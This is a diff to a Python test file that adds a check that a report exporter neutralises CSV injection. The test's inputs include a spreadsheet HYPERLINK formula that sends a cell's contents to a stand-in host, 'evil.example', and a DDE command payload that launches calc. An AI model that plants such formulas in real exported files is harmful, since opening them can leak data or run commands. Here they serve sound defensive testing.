@@ -21,11 +21,12 @@ from pathlib import Path
 
 import pytest
 import report_fixtures as rf
+from run_fixtures import add_run
 
 from exporters.errors import UsageError
 from exporters.stores.sqlite import SQLiteStore
 from scoring.charts import pareto_front
-from scoring.report import COLUMNS, public_url, write_report
+from scoring.report import COLUMNS, csv_cell, public_url, write_report
 from scoring.runs import load_runs
 
 _CHROMIUM_MISSING = "chromium not found: apt-get install chromium"
@@ -193,6 +194,30 @@ def test_reference_host_and_empty_reports(report, tmp_path) -> None:
     assert "No scored runs" in page and "<img" not in page
     with (tmp_path / "empty" / "scores.csv").open() as f:
         assert len(list(csv.reader(f))) == 1
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs (OWASP, CSV injection)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path) -> None:
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    with SQLiteStore(tmp_path / "s.db") as store:
+        add_run(store, link, "+SUM(1,1)", "@lab", 100, 10, 36.0)
+        add_run(store, "-2+3", "net", "lab", 200, 10, 36.0, fail="=cmd|' /C calc'!A0")
+        write_report(store, tmp_path / "out", load_runs(store))
+    with (tmp_path / "out" / "scores.csv").open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["run id"], r["model"], r["host"]) for r in rows] == [
+        ("'" + link, "'+SUM(1,1)", "'@lab"),
+        ("'-2+3", "net", "lab"),
+    ]
+    for row in rows:
+        for cell in row.values():
+            if cell.startswith(FORMULA):
+                float(cell)  # only a number may: it stays one
+    assert rows[1]["flags"] == "failed: =cmd|' /C calc'!A0"  # begins with text: harmless
+    assert [csv_cell(v) for v in (-1.5, -3, 0.25, True, None)] == ["-1.5", "-3", "0.25", "true", ""]
+    assert [csv_cell(v) for v in ("-3", "\tx", "\r=1", "a=b")] == ["'-3", "'\tx", "'\r=1", "a=b"]
 
 
 def test_store_url_never_shows_credentials() -> None:
